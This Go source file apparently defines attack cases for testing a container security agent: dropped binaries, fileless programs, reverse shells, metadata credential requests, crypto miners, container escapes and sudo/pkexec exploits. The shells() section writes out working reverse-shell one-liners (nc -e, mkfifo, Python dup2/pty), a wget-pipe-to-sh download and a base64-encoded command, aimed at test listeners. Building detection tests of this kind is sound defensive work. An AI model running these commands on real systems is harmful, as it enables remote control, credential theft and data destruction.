package main

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
)

// chosen is the list, or a part of it.
func chosen(short bool, only string) []attack {
	var list []attack
	ids := strings.Split(only, ",")
	for _, a := range all() {
		if only == "" && (!short || a.short) || slices.Contains(ids, a.id) {
			list = append(list, a)
		}
	}
	return list
}

func all() []attack {
	var list []attack
	for _, part := range [][]attack{programs(), shells(), peers(), guardedFiles(), escapes(), ended(), seen(), files(), network()} {
		list = append(list, part...)
	}
	return list
}

// stop is an attack that is stopped on both tiers; whoever did it, a file is the
// witness.
func stop(id, title, box string, tells, about string, run ...string) attack {
	return attack{id: id, title: title, box: box, run: run, tells: strings.Fields(tells), about: about, tier1: stopped, tier2: stopped}
}

// tell is an attack that is only told, on both tiers.
func tell(id, title, box string, tells, about string, run ...string) attack {
	return attack{id: id, title: title, box: box, run: run, tells: strings.Fields(tells), about: about, tier1: told, tier2: told}
}

func (a attack) with(flags ...string) attack { a.flags = flags; return a }

func (a attack) inShort() attack { a.short = true; return a }

func (a attack) onTier2(o outcome) attack { a.tier2 = o; return a }

// reached says that harm is done when somebody came to a listener.
func (a attack) reached(address string) attack {
	a.harmed = func(s *suite) bool { return s.listeners[address].Connections.Load() > 0 }
	return a
}

// heard says that harm is done when something was said to a listener.
func (a attack) heard(address string) attack {
	a.harmed = func(s *suite) bool { return s.listeners[address].Received.Load() > 0 }
	return a
}

// doing gives a program of the image what it does.
func (a attack) doing(what string) attack {
	a.flags = append(a.flags, "-e", "VILLAIN_DO="+strings.ReplaceAll(what, "@", "/w/"+a.id))
	return a
}

// programs: what was not in the image, and what policy does not name.
func programs() []attack {
	return []attack{
		stop("drop", "a new program in /tmp", guarded, "drift", "/tmp/dropped", "attack", "drop", "@", "/tmp/dropped").inShort(),
		stop("drop-shm", "a new program in /dev/shm", guarded, "drift", "/dev/shm/x", "attack", "drop", "@", "/dev/shm/x"),
		stop("drop-volume", "a new program on a volume", guarded, "drift", "/w/new", "attack", "drop", "@", "/w/new"),
		stop("drop-hidden", "a new program in a hidden folder", guarded, "drift", "/var/.cache/.x", "attack", "drop", "@", "/var/.cache/.x"),
		stop("replace", "a program of the image replaced", guarded, "drift", "/usr/bin/resolver", "attack", "drop", "@", "/usr/bin/resolver"),
		stop("copy", "a shell copied under another name", guarded, "drift", "/tmp/ls", "sh", "-c", "cp /bin/busybox /tmp/ls && /tmp/ls / && echo x > @"),
		stop("fileless", "a program in memory only", guarded, "fileless", "kworker", "attack", "fileless", "@").inShort(),
		stop("unlinked", "a program whose file was removed", guarded, "fileless drift", "kworker", "attack", "unlinked", "@", "/tmp/gone"),
		stop("not-listed", "a program that policy does not name", listed, "exec", "/usr/bin/python3.11", "/usr/bin/python3.11").doing("mark @").inShort(),
		stop("not-listed-child", "the same, started by one that it names", listed, "exec", "/usr/bin/curl", "sh", "-c", "VILLAIN_DO=\"mark @\" /usr/bin/curl"),
		stop("listed-drop", "a new program in a box with a list", listed, "drift exec", "/tmp/b", "attack", "drop", "@", "/tmp/b"),
		stop("listed-fileless", "a program in memory, in a box with a list", listed, "fileless exec", "kworker", "attack", "fileless", "@"),
	}
}

// shells: commands for whoever is at the other end.
func shells() []attack {
	at := peer(portAllowed)
	return []attack{
		stop("reverse-shell", "a shell on a connection", guarded, "reverse-shell", "/bin/busybox", "attack", "shell", at, "/bin/sh").inShort(),
		stop("reverse-shell-listed", "the same to a peer that policy names", listed, "reverse-shell", "/bin/busybox", "attack", "shell", at, "/bin/sh"),
		stop("reverse-shell-admin", "the same in a box with rights", admin, "reverse-shell", "/bin/busybox", "attack", "shell", at, "/bin/sh"),
		stop("reverse-program", "another program on a connection", open, "reverse-shell", "/opt/miner/kworker", "attack", "shell", at, "/opt/miner/kworker").doing("mark @"),
		stop("nc-e", "nc -e to a listener", open, "reverse-shell netcat-command", "", "nc", stage4444(), "4444", "-e", "/bin/sh"),
		stop("bind-shell", "nc -l -e, and somebody comes", guarded, "reverse-shell netcat-command", "", "sh", "-c",
			"nc -l -p 5551 -e /bin/sh & sleep 1; (echo 'echo x > @'; sleep 1) | nc 127.0.0.1 5551"),
		tell("fifo-shell", "a shell behind pipes", open, "interpreter-shell", "mkfifo", "timeout", "3", "sh", "-c",
			"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f|/bin/sh -i 2>&1|nc "+stage4444()+" 4444 >/tmp/f"),
		stop("python-shell", "a script that joins a shell to a connection", open, "interpreter-shell", "dup2", "/usr/bin/python3.11", "-c",
			"import socket,os,pty;s=socket.socket();s.connect(('"+stage4444()+"',4444));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn('/bin/sh')").doing("later @"),
		stop("server-shell", "a shell that nginx starts", open, "server-shell", "nginx", "/usr/sbin/nginx").doing("spawn-shell @"),
		tell("php-shell", "a shell that PHP starts", open, "application-shell", "php-fpm", "/usr/sbin/php-fpm8.2").doing("spawn /bin/sh -c id"),
		tell("server-id", "id, started by redis", open, "server-reconnaissance", "redis-server", "/usr/bin/redis-server").doing("spawn /bin/id"),
		tell("terminal", "a shell at a terminal", open, "terminal-shell", "", "sh", "-c", "/bin/sh -i < /dev/null").with("-t"),
		tell("pty", "a shell made a terminal", open, "terminal-upgrade", "pty.spawn", "/usr/bin/python3.11", "-c", "import pty; pty.spawn('/bin/sh')").doing("mark @"),
		tell("curl-sh", "a download that is run at once", open, "download-to-shell", "", "sh", "-c", "wget -q -O- http://127.0.0.1:1/x | sh"),
		tell("encoded", "a command that is hidden", open, "encoded-command", "", "sh", "-c", "echo aWQ= | base64 -d | sh"),
	}
}

func stage4444() string { host, _, _ := strings.Cut(peer(portAllowed), ":"); return host }

// peers: where connections go.
func peers() []attack {
	return []attack{
		stop("stranger", "data sent to a peer that policy does not name", listed, "network", "9999", "attack", "connect", peer(portRefused)).reached(peer(portRefused)).inShort(),
		stop("stranger-datagram", "the same by a datagram", listed, "network", "9999", "attack", "datagram", peer(portRefused)).reached("udp " + peer(portRefused)),
		stop("stranger-mapped", "the same by an IPv4 address written as IPv6", listed, "network", "9999", "attack", "connect", "[::ffff:"+stage4444()+"]:9999").reached(peer(portRefused)),
		stop("metadata", "the cloud's credentials asked for", guarded, "network", "169.254.169.254", "attack", "connect", metadata).reached(metadata).inShort(),
		stop("metadata-tasks", "a task's credentials asked for", guarded, "network", "169.254.170.2", "attack", "connect", "169.254.170.2:80").reached("169.254.170.2:80"),
		stop("raw", "a raw socket past the rules", listed, "network", "raw", "attack", "socket", "raw", "@"),
		stop("packet", "a packet socket past the rules", guarded, "network", "packet", "attack", "socket", "packet", "@"),
		stop("raw-guarded", "a raw socket under the baseline", guarded, "network", "raw", "attack", "socket", "raw6", "@"),
		stop("miner", "the handshake of a mining pool", guarded, "miner-handshake", "mining.subscribe", "attack", "mine", peer(portPool)).heard(peer(portPool)).inShort(),
		stop("miner-open", "the same where only detections hold", open, "miner-handshake", "mining.subscribe", "attack", "mine", peer(portPool)).heard(peer(portPool)),
	}
}

// guardedFiles: what policy lets nobody read, or change.
func guardedFiles() []attack {
	return []attack{
		stop("denied-file", "a file read that policy denies", listed, "file-read", "/opt/secret/deep/key", "sh", "-c", "cat /opt/secret/deep/key && echo x > @").inShort(),
		stop("denied-copy", "the same copied", listed, "file-read", "/opt/secret/deep/key", "sh", "-c", "cp /opt/secret/deep/key /tmp/k && echo x > @"),
		stop("read-only-file", "a file written that policy lets be read only", listed, "file-write", "/opt/config/app", "sh", "-c", "cat /opt/config/app && echo x >> /opt/config/app && echo x > @"),
		stop("emptied-file", "the same emptied", listed, "file-write", "/opt/config/app", "sh", "-c", ": > /opt/config/app && echo x > @"),
	}
}

// escapes: ways out that no policy opens.
func escapes() []attack {
	return []attack{
		func() attack {
			a := stop("release-agent", "release_agent written", admin, "escape-release-agent", "release_agent", "attack", "escape", "/cgroups/release_agent")
			a.harmed = func(s *suite) bool {
				raw, err := os.ReadFile(filepath.Join(s.Cgroups, "release_agent"))
				return err != nil || strings.TrimSpace(string(raw)) != ""
			}
			return a
		}().inShort(),
		stop("core-pattern", "core_pattern written", exposed, "escape-core-pattern", "core_pattern", "attack", "rewrite", "/proc/sys/kernel/core_pattern", "@"),
		stop("engine-socket", "the engine's socket used", guarded, "container-socket", "docker.sock", "attack", "engine", "/var/run/docker.sock", "@").inShort(),
		stop("disk", "the host's disk read", exposed, "escape-block-device", "read", "attack", "read", "/disk", "@"),
		stop("module", "a kernel module loaded", admin, "escape-kernel-module", "init_module", "attack", "call", "init-module", "@"),
		stop("module-file", "a kernel module loaded from a file", admin, "escape-kernel-module", "finit_module", "attack", "call", "finit-module", "@"),
		stop("module-removed", "a kernel module removed", admin, "escape-kernel-module", "delete_module", "attack", "call", "delete-module", "@"),
		stop("kexec", "another kernel loaded", admin, "escape-kernel-module", "kexec_load", "attack", "call", "kexec-load", "@"),
		stop("bpf", "a program for the kernel", admin, "escape-bpf", "bpf", "attack", "call", "bpf", "@").inShort(),
		stop("handle", "a file opened by its handle", admin, "escape-file-handle", "open_by_handle_at", "attack", "call", "handle", "@"),
		stop("module-privileged", "a kernel module, from a box that sees the host", exposed, "escape-kernel-module", "init_module", "attack", "call", "init-module", "@"),
		stop("bpf-privileged", "a program for the kernel, from a box that sees the host", exposed, "escape-bpf", "bpf", "attack", "call", "bpf", "@"),
	}
}

// ended: what the agent ends a moment after it began.
func ended() []attack {
	return []attack{
		stop("shm-program", "a program in shared memory runs", open, "shared-memory-program", "/dev/shm/work", "sh", "-c",
			"cp /opt/miner/kworker /dev/shm/work && VILLAIN_DO=\"later @\" /dev/shm/work"),
		stop("memory-program", "a program without a file runs", open, "fileless-program", "kworker", "attack", "fileless-later", "@"),
		stop("xmrig", "a miner by its name", open, "miner-program", "xmrig", "/opt/miner/xmrig").doing("later @").inShort(),
		stop("pool-arguments", "a miner by its options", open, "miner-arguments", "stratum", "/opt/miner/kworker", "-o", "stratum+tcp://pool.example:3333").doing("later @"),
		stop("pool-name", "a mining pool's name asked for", open, "miner-pool-name", "supportxmr", "attack", "ask", peer(53), "pool.supportxmr.com", "@"),
		stop("shred", "data overwritten", open, "data-destruction", "shred", "/usr/bin/shred", "-u", "/data/orders.db").doing("later @"),
		stop("debugfs", "a disk read past its file system", open, "debugfs-tool", "debugfs", "/usr/sbin/debugfs", "/dev/vda").doing("later @"),
		stop("set-user-id", "an interpreter that gives rights", open, "set-user-id-shell", "perl", "/usr/bin/perl").with("--user=10001").doing("later @"),
		stop("set-user-id-new", "a new program that gives rights", open, "set-user-id-new", "/tmp/give", "sh", "-c",
			"cp /usr/bin/attack /tmp/give && chmod 4755 /tmp/give && VILLAIN_DO=\"later @\" attack as-user 10001 /tmp/give"),
		stop("sudoedit", "an attack on sudo", open, "exploit-sudoedit", "sudoedit", "attack", "as", "sudoedit", "/usr/bin/sudo", "-s", "AAAA\\").with("--user=10001").doing("later @"),
		stop("pkexec", "an attack on pkexec", open, "exploit-pkexec", "pkexec", "attack", "nameless", "/usr/bin/pkexec").with("--user=10001").doing("later @"),
		stop("ptrace", "another process attached to", admin, "process-injection", "ptrace", "attack", "ptrace", "@"),
		stop("setns", "a namespace entered", admin, "namespace-entry", "setns", "attack", "call", "setns", "@"),
		stop("ports", "the machine's ports asked for", exposed, "raw-memory", "iopl", "attack", "call", "ports", "@"),
		stop("nsenter", "the host entered", exposed, "host-entry namespace-entry", "nsenter", "sh", "-c", "nsenter -t 1 -u sleep 6 && echo x > @"),
	}
}
